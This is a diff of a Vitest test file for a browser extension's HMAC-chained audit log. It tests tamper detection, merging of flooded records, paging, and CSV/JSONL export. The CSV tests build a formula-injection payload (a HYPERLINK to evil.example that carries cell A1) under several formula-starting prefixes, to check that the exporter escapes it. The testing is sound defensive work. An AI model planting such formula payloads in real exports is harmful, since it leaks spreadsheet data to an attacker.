@@ -1,8 +1,8 @@
 import 'fake-indexeddb/auto';
 import { describe, expect, it } from 'vitest';
-import { AuditLog } from '../../src/background/audit-log.ts';
+import { AuditLog, MAX_PENDING_WHILE_LOCKED } from '../../src/background/audit-log.ts';
 import { openKeyholeDB } from '../../src/background/db.ts';
-import { ANOMALY_WINDOW_MS, type AuditRecord, anomalies, auditRecord, toCsv, toJsonl, verifyChain } from '../../src/core/audit.ts';
+import { ANOMALY_WINDOW_MS, type AuditRecord, anomalies, auditRecord, csvCell, toCsv, toJsonl, verifyChain } from '../../src/core/audit.ts';
 
 const hmacKey = () =>
   crypto.subtle.generateKey({ name: 'HMAC', hash: 'SHA-256', length: 256 }, false, ['sign', 'verify']) as Promise<CryptoKey>;
@@ -59,7 +59,7 @@ describe('audit chain', () => {
   it('verifies an untouched log and finds an edited, removed or reordered entry', async () => {
     const { db, audit, key } = await log();
     for (let i = 0; i < 5; i++) await audit.append(rec(i));
-    expect((await audit.view()).check).toEqual({ ok: true, checked: 5, pending: 0 });
+    expect(await audit.verify()).toEqual({ ok: true, checked: 5, pending: 0 });
 
     const all = await db.getAll('audit');
     const edited = all.map((e) => (e.seq === 3 ? { ...e, record: { ...e.record, origin: 'https://evil.example' } } : e));
@@ -87,12 +87,11 @@ describe('audit chain', () => {
     await audit.append({ kind: 'lock', correlationId: 'l', reason: 'idle' });
     await audit.append(rec(2));
     unlock();
-    expect((await audit.view()).check).toEqual({ ok: true, checked: 1, pending: 2 });
+    expect(await audit.verify()).toEqual({ ok: true, checked: 1, pending: 2 });
     expect(await audit.chainPending()).toBe(2);
     await audit.append({ kind: 'unlock', correlationId: 'u' });
-    const v = await audit.view();
-    expect(v.check).toEqual({ ok: true, checked: 4, pending: 0 });
-    expect(v.entries.map((e) => e.record.kind)).toEqual(['unlock', 'request', 'lock', 'request']);
+    expect(await audit.verify()).toEqual({ ok: true, checked: 4, pending: 0 });
+    expect((await audit.view()).entries.map((e) => e.record.kind)).toEqual(['unlock', 'request', 'lock', 'request']);
   });
 
   it('writes a burst of request and error records together, and any other kind at once with those waiting', async () => {
@@ -113,8 +112,8 @@ describe('audit chain', () => {
       [5, 'l'],
     ]);
     void audit.append(rec(6));
-    const v = await audit.view(); // reading writes what waits first
-    expect(v.check).toEqual({ ok: true, checked: 6, pending: 0 });
+    expect((await audit.view()).entries).toHaveLength(6); // reading writes what waits first
+    expect(await audit.verify()).toEqual({ ok: true, checked: 6, pending: 0 });
   });
 
   it('filters', async () => {
@@ -122,7 +121,116 @@ describe('audit chain', () => {
     await audit.append(rec(1));
     await audit.append({ ...rec(2), origin: 'https://b.example' });
     expect((await audit.view({ origin: 'https://b.example' })).entries).toHaveLength(1);
-    expect((await audit.view({ kind: 'lock' })).total).toBe(0);
+    expect((await audit.view({ kind: 'lock' })).entries).toHaveLength(0);
+  });
+});
+
+describe('audit under a flood (issue 12, item 10)', () => {
+  async function log() {
+    const state = { key: (await hmacKey()) as CryptoKey | null, t: 1000 };
+    const saved = state.key;
+    const db = await openKeyholeDB(`audit-flood-${++n}`);
+    const audit = new AuditLog(
+      db,
+      async () => state.key,
+      () => state.t++,
+    );
+    return { db, audit, key: saved as CryptoKey, lock: () => (state.key = null), unlock: () => (state.key = saved) };
+  }
+  const refusal = (i: number) => ({
+    kind: 'error' as const,
+    correlationId: `e${i}`,
+    origin: 'https://flood.example',
+    tabId: 7,
+    secret: `probe-${i}`, // a page varies what it can
+    status: 4100,
+    decision: 'denied' as const,
+  });
+
+  it('merges 20,000 refused calls from one tab into counted records, keeping only the fields they share', async () => {
+    const { db, audit } = await log();
+    await Promise.all(Array.from({ length: 20_000 }, (_, i) => audit.append(refusal(i))));
+    const stored = await db.getAll('audit');
+    expect(stored.length).toBeLessThanOrEqual(3);
+    expect(stored.reduce((sum, e) => sum + (e.record.count ?? 1), 0)).toBe(20_000);
+    expect(stored[0]?.record).toMatchObject({ kind: 'error', origin: 'https://flood.example', tabId: 7, status: 4100, decision: 'denied' });
+    expect(stored[0]?.record.secret).toBeUndefined(); // it varied: no one name stands for all
+    expect(await audit.verify()).toMatchObject({ ok: true });
+  });
+
+  it('keeps alike refusals of different origins apart', async () => {
+    const { db, audit } = await log();
+    await Promise.all([audit.append(refusal(1)), audit.append({ ...refusal(2), origin: 'https://other.example' })]);
+    expect((await db.getAll('audit')).map((e) => e.record.origin).sort()).toEqual(['https://flood.example', 'https://other.example']);
+  });
+
+  it('while locked, keeps at most MAX_PENDING_WHILE_LOCKED records and counts the rest in one; all are chained at unlock', async () => {
+    const { db, audit, lock, unlock } = await log();
+    await audit.append({ kind: 'unlock', correlationId: 'u' });
+    lock();
+    // records of many origins (alike refusals would merge): 3,000 of them, in bursts
+    for (let b = 0; b < 3; b++) {
+      await Promise.all(
+        Array.from({ length: 1000 }, (_, i) =>
+          audit.append({ kind: 'request', correlationId: `r${b}-${i}`, origin: `https://o${b * 1000 + i}.example`, decision: 'allowed' }),
+        ),
+      );
+    }
+    const stored = await db.getAll('audit');
+    expect(stored.length).toBe(1 + MAX_PENDING_WHILE_LOCKED + 1);
+    expect(stored.at(-1)?.record).toMatchObject({ kind: 'error', reason: 'audit-overflow', count: 3000 - MAX_PENDING_WHILE_LOCKED });
+    unlock();
+    expect(await audit.chainPending()).toBe(MAX_PENDING_WHILE_LOCKED + 1);
+    expect(await audit.verify()).toEqual({ ok: true, checked: MAX_PENDING_WHILE_LOCKED + 2, pending: 0 });
+  });
+
+  it('pages newest first', async () => {
+    const { audit } = await log();
+    for (let b = 0; b < 5; b++)
+      await Promise.all(
+        Array.from({ length: 500 }, (_, i) => audit.append({ kind: 'request', correlationId: `c${b}-${i}`, decision: 'allowed' })),
+      );
+    const first = await audit.view({}, 1000);
+    expect(first.entries.map((e) => e.seq)).toEqual(Array.from({ length: 1000 }, (_, i) => 2500 - i));
+    expect(first.more).toBe(true);
+    const second = await audit.view({}, 1000, first.next);
+    expect(second.entries[0]?.seq).toBe(1500);
+    const third = await audit.view({}, 1000, second.next);
+    expect(third.entries.map((e) => e.seq)).toEqual(Array.from({ length: 500 }, (_, i) => 500 - i));
+    expect(third.more).toBe(false);
+  });
+
+  it('verifying a long chain does not hold up the log: an append made meanwhile is written first', async () => {
+    const { audit } = await log();
+    for (let b = 0; b < 20; b++)
+      await Promise.all(
+        Array.from({ length: 1000 }, (_, i) => audit.append({ kind: 'request', correlationId: `c${b}-${i}`, decision: 'allowed' })),
+      );
+    const order: string[] = [];
+    const verified = audit.verify().then((c) => {
+      order.push('verified');
+      return c;
+    });
+    const view = await audit.view({}, 10);
+    expect(view.entries).toHaveLength(10);
+    expect(view.check).toBeNull(); // still verifying: the view does not wait for it
+    await audit.append({ kind: 'lock', correlationId: 'l', reason: 'person' }).then(() => order.push('appended'));
+    expect(await verified).toMatchObject({ ok: true }); // it may have reached the append too
+    expect(order).toEqual(['appended', 'verified']);
+    // the next verification starts at the checkpoint: it checks only what came since
+    expect(await audit.verify()).toEqual({ ok: true, checked: 20_001, pending: 0 });
+    expect((await audit.view({}, 1)).check).toEqual({ ok: true, checked: 20_001, pending: 0 });
+  });
+
+  it('a worker that starts fresh verifies from the first entry and finds one tampered with', async () => {
+    const { db, audit, key } = await log();
+    for (let i = 0; i < 50; i++) await audit.append({ kind: 'request', correlationId: `c${i}`, decision: 'allowed' });
+    const e = await db.get('audit', 20);
+    if (!e) throw new Error('no entry 20');
+    await db.put('audit', { ...e, record: { ...e.record, origin: 'https://evil.example' } });
+    const fresh = new AuditLog(db, async () => key);
+    expect(await fresh.verify()).toMatchObject({ ok: false, brokenAt: 20 });
+    expect((await fresh.view({}, 5)).check).toMatchObject({ ok: false, brokenAt: 20 });
   });
 });
 
@@ -135,13 +243,32 @@ describe('exports', () => {
     const lines = toJsonl(entries).trimEnd().split('\n');
     expect(lines.map((l) => JSON.parse(l).seq)).toEqual([1, 2]);
   });
-  it('writes CSV with quoting and no formula can start a cell', () => {
+  it('writes CSV with quoting', () => {
     const csv = toCsv(entries);
     expect(csv.split('\r\n')[0]).toBe(
-      'seq,time,kind,correlationId,origin,tabId,secret,mode,method,host,path,decision,status,latencyMs,reason',
+      'seq,time,kind,correlationId,origin,tabId,secret,mode,method,host,path,decision,status,latencyMs,reason,count',
     );
     expect(csv).toContain('"/=cmd,""q"""');
     expect(csv.split('\r\n')).toHaveLength(4);
+  });
+
+  // What a spreadsheet runs as a formula: a cell starting with = + - @, a tab or a carriage return.
+  for (const prefix of ['=', '+', '-', '@', '\t', '\r']) {
+    it(`no cell starting with ${JSON.stringify(prefix)} reaches a spreadsheet as a formula`, () => {
+      const hostile = `${prefix}HYPERLINK("https://evil.example/?"&A1,"x")`;
+      const cell = csvCell(hostile);
+      // the cell as a spreadsheet reads it, unquoted
+      const read = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
+      expect(read.startsWith("'")).toBe(true);
+      expect(read.slice(1)).toBe(hostile); // nothing lost
+      const csv = toCsv([{ seq: 1, mac: null, record: { time: 1, kind: 'error', correlationId: 'x', reason: hostile } as AuditRecord }]);
+      expect(csv).toContain(`"'${hostile.replaceAll('"', '""')}"`);
+    });
+  }
+
+  it('keeps plain negative numbers as numbers', () => {
+    expect(csvCell(-32602)).toBe('-32602');
+    expect(csvCell('-1+2')).toBe(`"'-1+2"`);
   });
 });
 
